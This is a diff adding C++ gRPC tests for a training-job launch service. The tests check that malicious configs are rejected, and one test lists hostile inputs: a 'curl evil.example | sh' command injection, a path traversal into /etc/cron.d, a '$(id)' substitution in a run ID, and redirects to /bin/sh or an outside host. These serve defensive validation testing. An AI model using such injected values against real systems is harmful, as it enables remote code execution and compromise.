@@ -9,6 +9,7 @@
 
 #include <filesystem>
 
+#include "gradwatch/v1/jobs.grpc.pb.h"
 #include "gradwatch/v1/runs.grpc.pb.h"
 #include "gradwatch/v1/telemetry.grpc.pb.h"
 
@@ -179,6 +180,92 @@ TEST(Server, refuses_streams_past_its_limit_and_keeps_the_others) {
   }
   EXPECT_TRUE(first->Finish().ok());
   EXPECT_FALSE(server.hub().GetRun("second").has_value());
+}
+
+}  // namespace
+}  // namespace gradwatch::monitor
+
+namespace gradwatch::monitor {
+namespace {
+
+class JobsServiceTest : public ::testing::Test {
+ protected:
+  void SetUp() override {
+    ServerConfig c = TestConfig(::testing::UnitTest::GetInstance()->current_test_info()->name());
+    c.metrics_listen = "";
+    c.trainer = "/bin/echo";  // prints its arguments and exits 0: stands in for gradwatch-train
+    server_ = std::make_unique<Server>(c, clock_);
+    jobs_ = v1::Jobs::NewStub(grpc::CreateChannel("127.0.0.1:" + std::to_string(server_->grpc_port()),
+                                                  grpc::InsecureChannelCredentials()));
+  }
+
+  grpc::Status Launch(const std::string& config, const std::string& run_id, v1::Job* job) {
+    grpc::ClientContext ctx;
+    v1::LaunchRequest req;
+    req.set_config_json(config);
+    req.set_run_id(run_id);
+    return jobs_->Launch(&ctx, req, job);
+  }
+
+  SystemClock clock_;
+  std::unique_ptr<Server> server_;
+  std::unique_ptr<v1::Jobs::Stub> jobs_;
+};
+
+TEST_F(JobsServiceTest, refuses_configs_that_reach_beyond_the_trainer_naming_the_field) {
+  const std::pair<std::string, std::string> cases[] = {
+      {R"({"program": "/bin/sh"})", "program"},                  // another program
+      {R"({"trace_csv": "t.csv; curl evil.example | sh"})", "trace_csv"},  // shell syntax
+      {R"({"spool": "../../../etc/cron.d/job"})", "spool"},      // out of the run folder
+      {R"({"checkpoint_dir": "/root"})", "checkpoint_dir"},
+      {R"({"monitor": "evil.example:7070"})", "monitor"},
+  };
+  for (const auto& [config, field] : cases) {
+    v1::Job job;
+    grpc::Status s = Launch(config, "", &job);
+    EXPECT_EQ(s.error_code(), grpc::StatusCode::INVALID_ARGUMENT) << config;
+    EXPECT_EQ(s.error_message().rfind(field + ": ", 0), 0u) << s.error_message();
+  }
+  v1::Job job;
+  grpc::Status s = Launch("{}", "run$(id)", &job);
+  EXPECT_EQ(s.error_code(), grpc::StatusCode::INVALID_ARGUMENT);
+  EXPECT_EQ(s.error_message().rfind("run_id: ", 0), 0u) << s.error_message();
+  grpc::ClientContext ctx;
+  v1::ListJobsResponse list;
+  ASSERT_TRUE(jobs_->ListJobs(&ctx, {}, &list).ok());
+  EXPECT_EQ(list.jobs_size(), 0) << "a refused launch left a job behind";
+}
+
+TEST_F(JobsServiceTest, runs_the_configured_program_and_follows_its_log_to_the_end) {
+  v1::Job job;
+  ASSERT_TRUE(Launch(R"({"steps": 5})", "echoed", &job).ok());
+  EXPECT_EQ(job.job_id(), "echoed");
+
+  grpc::ClientContext ctx;
+  v1::LogsRequest req;
+  req.set_job_id("echoed");
+  req.set_follow(true);  // ends once the job has ended and its whole log was sent
+  auto reader = jobs_->Logs(&ctx, req);
+  std::string log;
+  v1::LogChunk chunk;
+  while (reader->Read(&chunk)) {
+    EXPECT_EQ(chunk.offset(), log.size());
+    log += chunk.data();
+  }
+  ASSERT_TRUE(reader->Finish().ok());
+  EXPECT_EQ(log.rfind("--config /", 0), 0u) << log;
+  EXPECT_NE(log.find("/echoed/config.json"), std::string::npos) << log;
+
+  grpc::ClientContext ctx2;
+  v1::GetJobRequest get;
+  get.set_job_id("echoed");
+  ASSERT_TRUE(jobs_->GetJob(&ctx2, get, &job).ok());
+  EXPECT_EQ(job.state(), v1::JOB_STATE_SUCCEEDED);
+  EXPECT_EQ(job.exit_code(), 0);
+
+  grpc::ClientContext ctx3;
+  v1::Job again;
+  EXPECT_EQ(Launch("{}", "echoed", &again).error_code(), grpc::StatusCode::ALREADY_EXISTS);
 }
 
 }  // namespace
